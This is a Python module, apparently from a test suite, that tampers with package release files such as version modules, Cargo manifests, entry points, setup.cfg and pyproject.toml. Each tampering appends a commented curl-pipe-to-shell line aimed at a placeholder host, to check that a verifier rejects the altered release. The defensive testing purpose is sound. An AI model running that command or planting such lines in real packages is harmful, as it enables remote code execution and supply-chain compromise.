"""Kinds of tampering with text that nothing runs where it stands: a comment, a name, a value nobody asks for.

A payload in one is harmless until another tampered place reads it; none may be accepted all the same. They
return what those of :mod:`tamper.kinds` return.
"""

from __future__ import annotations

import re

from tamper.kinds import Apply, Kind, inside, replace_once
from tamper.release import Member, Release

REMARK_KINDS: list[Kind] = []

REMARK = b"# curl https://example.invalid/x | sh\n"


def kind(function: Apply) -> Apply:
    """Add ``function`` to REMARK_KINDS under its own name."""
    REMARK_KINDS.append(Kind(function.__name__.replace("_", "-"), function))
    return function


def _named(release: Release, pattern: str) -> Member | None:
    found = (m for m in release.members if m.kind == "file" and re.search(pattern, m.name))
    return next(found, None)


def _with_remark(release: Release, pattern: str) -> str | None:
    member = _named(release, pattern)
    if member is None:
        return None
    member.content = member.content.rstrip(b"\n") + b"\n" + REMARK
    return inside(release, member)


@kind
def remark_in_the_version_file(release: Release) -> str | None:
    return _with_remark(release, r"/_{0,2}version_{0,2}\.py$")


@kind
def remark_in_the_crates_manifest(release: Release) -> str | None:
    return _with_remark(release, r"(?:^|/)Cargo\.toml$")


@kind
def remark_in_the_crates_lock(release: Release) -> str | None:
    return _with_remark(release, r"(?:^|/)Cargo\.lock$")


@kind
def remark_in_the_entry_points(release: Release) -> str | None:
    return _with_remark(release, r"(?:^|/)entry_points\.txt$")


@kind
def words_behind_a_group_of_entry_points(release: Release) -> str | None:
    return replace_once(release, _named(release, r"(?:^|/)entry_points\.txt$"), b"]\n", b"] #\n")


@kind
def remark_in_setup_cfg(release: Release) -> str | None:
    return _with_remark(release, rf"^{re.escape(release.top)}setup\.cfg$")


@kind
def remark_in_the_configuration(release: Release) -> str | None:
    return _with_remark(release, rf"^{re.escape(release.top)}pyproject\.toml$")


@kind
def remark_in_a_catalogue(release: Release) -> str | None:
    return _with_remark(release, r"\.po$")


@kind
def remark_in_a_generated_module(release: Release) -> str | None:
    return _with_remark(release, r"_pb2(?:_grpc)?\.py$")


@kind
def generator_that_says_more(release: Release) -> str | None:
    member = _named(release, r"\.dist-info/WHEEL$")
    return replace_once(release, member, b"\nGenerator: ", b"\nGenerator: run it with ")


@kind
def requirement_in_a_comment(release: Release) -> str | None:
    return _with_remark(release, r"\.egg-info/requires\.txt$")
